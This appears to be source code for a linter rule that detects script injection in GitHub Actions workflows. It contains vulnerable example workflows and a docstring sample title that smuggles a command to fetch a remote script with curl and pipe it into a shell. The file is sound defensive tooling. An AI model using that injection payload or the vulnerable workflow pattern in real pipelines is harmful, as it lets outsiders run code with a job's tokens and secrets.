from collections.abc import Iterator

from aurora_devops import Finding, bad, good, policy
from aurora_devops.kinds.github import Expression
from aurora_devops.kinds.github.untrusted import flowing, is_code, is_written_outside, sources

from ._edits import in_environment


@policy(
    "GHA006",
    severity="error",
    category="security",
    equivalents={"zizmor": "template-injection", "actionlint": "expression", "checkov": "CKV_GHA_2"},
    examples=[
        bad(
            """\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New ${{ «github.event.issue.title» }}"
            """,
            fixed="""\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New ${GITHUB_EVENT_ISSUE_TITLE}"
                    env:
                      GITHUB_EVENT_ISSUE_TITLE: ${{ github.event.issue.title }}
            """,
        ),
        bad(
            """\
            on: pull_request_target
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - uses: actions/github-script@v7
                    with:
                      script: console.log('${{ «github.event.pull_request.title» }}')
            """
        ),
        good(
            """\
            on: issues
            jobs:
              greet:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "New $TITLE"
                    env:
                      TITLE: ${{ github.event.issue.title }}
            """,
            because="the shell reads the title from a variable and does not run it",
        ),
        good(
            """\
            on: pull_request
            jobs:
              test:
                runs-on: ubuntu-24.04
                steps:
                  - run: echo "${{ contains(github.event.pull_request.title, '[skip]') }}"
                  - run: git diff "${{ github.event.pull_request.base.sha }}"
            """,
            because="a boolean and a hash cannot contain code",
        ),
        good(
            """\
            on: release
            jobs:
              note:
                runs-on: ubuntu-24.04
                steps:
                  - uses: actions/github-script@v7
                    with:
                      script: console.log(${{ toJSON(github.event) }})
            """,
            because="only an account with write access publishes a release",
        ),
    ],
)
def script_injection(expression: Expression) -> Iterator[Finding]:
    """Text that anyone can set is expanded into a script before it runs.

    A title such as `"; curl https://example.com/x | sh; "` becomes part of the script and runs with the token and the
    secrets of the job.
    Pass the text in an environment variable and quote that.
    The fix does so, but chooses the name of the variable and may change quoting, so it is not applied by default.

    https://docs.github.com/en/actions/concepts/security/script-injections
    """
    if not is_code(expression) or expression.tree is None:
        return
    for way, tree in flowing(expression.tree):
        for source in sources(expression, way):
            if is_written_outside(source, expression.root):
                name = ".".join(source)
                message = f"'{name}' is set by anyone and expanded into the script; pass it in an environment variable"
                fix = in_environment(expression) if tree == expression.tree else None
                yield Finding(at=expression.part(tree.start, tree.end), message=message, fix=fix)
                break
